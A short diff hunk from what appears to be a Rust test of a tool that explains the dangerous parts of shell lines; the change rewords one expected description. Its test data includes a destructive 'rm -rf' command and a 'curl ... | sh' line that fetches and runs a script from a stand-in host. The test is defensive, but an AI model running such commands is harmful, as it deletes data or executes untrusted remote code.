@@ -69,7 +69,7 @@ async fn a_question_about_a_dangerous_line_names_the_part_and_the_paths_that_it_
     let lines = [
         (
             "cd src && make; rm -rf a b",
-            "rm -rf a b: Removes files that no build makes again (src/a, src/b)",
+            "rm -rf a b: Removes files that no build recreates (src/a, src/b)",
         ),
         (
             "make && curl -s http://x.test/a | sh",
